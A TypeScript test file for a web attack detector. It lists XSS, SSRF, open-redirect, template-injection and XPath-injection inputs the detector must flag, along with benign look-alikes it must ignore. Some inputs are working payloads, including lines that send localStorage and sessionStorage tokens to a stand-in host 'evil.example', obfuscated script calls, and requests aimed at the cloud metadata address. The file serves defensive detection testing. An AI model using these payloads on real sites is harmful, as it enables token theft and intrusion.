/**
 * Script, fetch, redirect and template forms read from each attack's language (branch
 * i18-classes, third round; docs/detection.md "Script spellings, fetch targets and redirect tricks"):
 * sinks reached through the global object or handed over as callbacks, VBScript, markup whose link
 * hides its host, ReDoS in an input pattern, XML Events handlers, scripts loaded from another host;
 * inside URLs nested in a URL's query and names reserved for private networks; redirect targets
 * that end the host before the site's own name; template output markers; XPath conditions on the
 * document's nodes. Every attack example here failed before this round; the benign look-alikes
 * beside them stay quiet. Where: `q` a query value, `next` the redirect parameter of a login page,
 * `json`/`form` a field of that body (helpers.ts).
 */
import { AttackDetector } from '../../../node/analysis/attacks';
import type { AttackClass } from '../../../node/records/types';
import { RELAXED, type Where, namedExamples } from './helpers';

const detector = new AttackDetector(RELAXED);
const ATTACKS: Array<[string, AttackClass, Where, string]> = [
  // xss: a sink reached as a member of the global object.
  ['alert through window', 'xss', 'q', 'window.alert(1)'],
  ['eval through top', 'xss', 'q', 'top.eval(x)'],
  ['prompt through globalThis', 'xss', 'json', 'globalThis.prompt(1)'],
  // xss: a sink handed to what calls it.
  ['alert as an array callback', 'xss', 'q', '[1].find(alert)'],
  ['alert through Reflect.apply', 'xss', 'q', 'Reflect.apply(alert,null,[1])'],
  ['alert as a replacer', 'xss', 'q', "'1'.replace(/1/,alert)"],
  ['a handler assigned in a block, then an error thrown', 'xss', 'q', '{onerror=alert}throw 1'],
  ['alert through Array.from', 'xss', 'q', 'Array.from([1],alert)'],
  ['alert as an event listener', 'xss', 'q', "addEventListener('load',alert)"],
  ['alert as a getter', 'xss', 'json', 'new Proxy({},{get:alert})'],
  // xss: a global indexed by a variable holding a sink's name; the Function constructor fed decoded code.
  ['a global indexed by a variable named alert', 'xss', 'q', 'x="alert";window[x](1)'],
  ['Function of atob', 'xss', 'q', "Function(atob('YWxlcnQoMSk='))()"],
  // xss: navigation to the fragment; storage sent to another host.
  ['location set from the fragment', 'xss', 'q', 'location=location.hash.slice(1)'],
  ['local storage concatenated into a URL', 'xss', 'q', "new Image().src='//evil.example/?'+localStorage.getItem('token')"],
  ['session storage in a beacon', 'xss', 'form', "navigator.sendBeacon('//evil.example',sessionStorage.token)"],
  // xss: a global indexed by a number spelled in base 30 ("alert").
  ['a name from Number#toString', 'xss', 'q', 'top[8680439..toString(30)](1)'],
  // xss: script loaded from another host.
  ['a dynamic import of a scheme-relative URL', 'xss', 'q', "import('//evil.example/x.js')"],
  ['jQuery getScript of a scheme-relative URL', 'xss', 'form', "$.getScript('//evil.example/x.js')"],
  // xss: VBScript.
  ['a message box with a string', 'xss', 'q', 'MsgBox("XSS")'],
  ['Execute of a message box of character codes', 'xss', 'q', 'Execute(MsgBox(chr(88)&chr(83)&chr(83)))<'],
  ['a string of character codes', 'xss', 'json', 'x=chr(60)&chr(115)'],
  // xss: markup whose link hides its host.
  ['a link to an address written as one number', 'xss', 'q', '<a href="http://1113982867/">click</a>'],
  ['a link to an address in hex parts', 'xss', 'q', '<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>'],
  ['an image from an address in octal parts', 'xss', 'q', '<img src="http://0102.0146.0007.00000223/">'],
  ['a link with a percent-encoded host', 'xss', 'q', '<A HREF="http://%77%77%77%2E%65%76%69%6C%2E%65%78">x</A>'],
  ['a link whose user info is a host name', 'xss', 'q', '<a href="http://www.shop.example@evil.example/">x</a>'],
  ['a link with tabs inside its scheme and host', 'xss', 'q', '<A HREF="h\ttt\tp://6\t6.000146.0x7.147/">XSS</A>'],
  ['a button that sends the form to another host', 'xss', 'q', '<button formaction="//evil.example/">Go</button>'],
  ['a portal to another page', 'xss', 'q', '<portal src=//evil.example>'],
  // xss: an input pattern that backtracks without end, and an XML Events handler.
  ['an input pattern with a nested quantifier', 'xss', 'q', '<input pattern=^((a+.)a)+$ value=aaaaaaaaaaaaaaaaaaaaaaaaa!>'],
  [
    'an XML Events handler',
    'xss',
    'q',
    '<x xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="test.evt#x"/>',
  ],
  // xss: dangling markup, a URL attribute left open after a break-out.
  ['an image URL left open after a break-out', 'xss', 'q', '"><img src=\'//evil.example/log?'],
  ['a background URL left open after a break-out', 'xss', 'form', "'><table background='https://evil.example/?c="],
  // xss: the probe for which characters a page reflects.
  ['quotes, a statement end and a marker element', 'xss', 'q', "'';!--\"<XSS>=&{()}"],
  ['quotes, a tag end and a marker element in the path', 'xss', 'path', '/a\'"><injectable>'],
  // ssrf: an inside URL in the query of an outside one; reserved and loopback names; a carried parameter.
  ['a dotted quad with parts over 255', 'ssrf', 'q', 'http://425.510.425.510/'],
  ['a blank and & before the @ of an authority', 'ssrf', 'q', 'http://1.1.1.1 &@2.2.2.2# @3.3.3.3/'],
  ['the Rancher metadata name', 'ssrf', 'q', 'http://rancher-metadata/latest'],
  ['this host by its port', 'ssrf', 'json', '0.0.0.0:8080'],
  ['an outside redirector to the metadata address', 'ssrf', 'q', 'https://evil.example/redirect?to=http://169.254.169.254/'],
  ['an outside URL carrying a scheme-relative loopback URL', 'ssrf', 'json', 'https://www.example.com/?u=//127.0.0.1/'],
  ['a multicast DNS name', 'ssrf', 'q', 'http://printer.local/status'],
  ['a Consul service name', 'ssrf', 'q', 'http://vault.service.consul:8200/v1/sys/health'],
  ['a home network name (RFC 8375)', 'ssrf', 'form', 'http://nas.home.arpa/'],
  ['a public name that resolves to loopback', 'ssrf', 'q', 'http://app.localhost.direct/'],
  ['a parameter carried whole in a value', 'ssrf', 'q', 'url=http://169.254.169.254/latest/meta-data/'],
  ['a loopback service by its port', 'ssrf', 'q', 'localhost:6379'],
  ['a loopback name in a URL after a route', 'ssrf', 'path', '/redirect/http://localhost/'],
  ['a URL after a route with its slashes squashed', 'ssrf', 'path', '/proxy/http:/localhost/admin'],
  // redir: a host ended before the site's own name; one slash; slashes mixed.
  ['our name after a query mark', 'redir', 'next', 'https://evil.example?.shop.example'],
  ['our name after a fragment mark', 'redir', 'next', 'https://evil.example#.shop.example'],
  ['our name after a backslash', 'redir', 'next', 'https://evil.example\\.shop.example'],
  ['one slash after the scheme', 'redir', 'next', 'https:/evil.example'],
  ['slashes and a backslash mixed', 'redir', 'next', '//\\/evil.example'],
  ['an absolute URL after one slash', 'redir', 'next', '/https://evil.example'],
  // ssti: an output marker before the expression.
  ["doT's output tag", 'ssti', 'q', '{{= 7*7}}'],
  ["EJS's unescaped output tag", 'ssti', 'q', '<%- 7*7 %>'],
  // xpathi: a condition on the document's nodes; a document fetched by URL.
  ['a closed string then an absolute path with a predicate', 'xpathi', 'q', "' or //user[position()=1] or '"],
  ['doc() of a remote URL', 'xpathi', 'q', "doc('http://evil.example/x.xml')"],
];

const BENIGN: Array<[string, Where, string]> = [
  // xss look-alikes.
  ['a sentence naming window.alert', 'q', 'window.alert is a function in browsers'],
  ["an application's own confirm dialog", 'json', 'this.dialog.confirm(message)'],
  ['Reflect.apply of a function', 'q', 'Reflect.apply(fn, thisArg, args)'],
  ['a promise handing over its own function', 'json', 'fetchItems().then(render).catch(showError)'],
  ['a dynamic import of a relative module', 'q', "import('./module.js')"],
  ['ordinary code indexing its own table', 'json', 'handlers[name](e)'],
  ['a listener of its own', 'json', "el.addEventListener('click', onClick)"],
  ['Array.from with a mapper', 'json', 'Array.from(items, toLabel)'],
  ['an object with a formatter', 'json', '{toString: fmt, get: read}'],
  ['navigation to a path', 'json', "location.href = '/home'"],
  ['a theme read from storage', 'json', "localStorage.getItem('theme')"],

  ['a VBA message box without parentheses', 'form', 'MsgBox "Hello world"'],
  ['a VBA message box of a variable', 'form', 'Dim x As Integer: MsgBox(x)'],
  ['a VBA string joined with a line break constant', 'form', 's = "Line 1" & vbCrLf & "Line 2"'],
  ['a sentence naming msgbox', 'form', 'msgbox appears when the macro ends'],
  ['a link to a dotted private address', 'q', '<a href="http://192.168.1.1/">router</a>'],
  ['a link with credentials', 'q', '<a href="https://john.doe@example.com/">x</a>'],
  ['a link to a name', 'q', '<a href="https://www.example.com/">x</a>'],
  ['a button that saves on the same site', 'q', '<button formaction="/save">Go</button>'],
  ['an input pattern for a zip code', 'q', 'use <input pattern="[0-9]{5}"> for zip codes'],
  ['an input pattern for a phone number', 'q', '<input pattern="(\\d{3})-(\\d{4})">'],
  [
    'a post cut short inside a link (a CRS false-positive test)',
    'form',
    'Here\'s a video: <a href="https://www.youtube.com/watch?v=',
  ],
  ['a link cut short without a query', 'q', '<a href="https://example.com/page'],
  ['a quoted tag', 'q', '"<b>quoted</b>"'],
  ['prose quoting markup', 'form', 'He said "it\'s <b>bold</b>"'],
  ['markup copied after a stray quote (libinjection false positive)', 'q', 'V1_OTHER_1"><IMG CLASS="SIZE-FULL WP-IMAGE-2764'],
  // ssrf look-alikes.
  ['a login flow nesting a native app redirect', 'q', 'https://accounts.example/login?next=http://localhost:3000/cb'],
  ['a partner callback nesting our own URL', 'q', 'https://partner.example/cb?return=https://shop.example/'],
  ['a sentence naming a .local site', 'q', 'see http://docs.local for more'],
  ['a carried parameter with an outside URL', 'q', 'next=https://partner.example/'],
  ['the word localhost', 'q', 'localhost'],
  ['a Java property path (a private-use name without a scheme)', 'form', 'user.home/.m2/repository'],
  ['a module path ending in .local', 'q', 'settings.local/foo'],
  ['a public address', 'q', 'http://1.2.3.4/'],
  ['a query holding an address with @', 'q', 'https://shop.example/?a=1&b=x@y.com'],
  ['a public URL after a route', 'path', '/files/http://www.example.com/a.png'],
  ['a path naming a protocol', 'path', '/docs/http/overview'],
  // redir look-alikes.
  ['an absolute URL to a partner', 'next', 'https://partner.example/cb'],
  ['an outside URL with our name in its path', 'next', 'https://evil.example/shop.example'],
  ['a relative path', 'next', '/account/settings'],
  ['a relative path whose query has slashes', 'next', '/search?q=a//b'],
  // ssti and xpathi look-alikes.
  ['a doT output of a field', 'q', '{{= it.name }}'],
  ['a Blade comment', 'q', '{{-- comment --}}'],
  ['a comparison in a template', 'q', '{{ a == b }}'],
  ['a Firestore document reference', 'json', "doc(db, 'users', id)"],
  ['a sentence with or and a path', 'q', "it's either /home or /var/www"],
];

namedExamples(detector, ATTACKS, BENIGN);
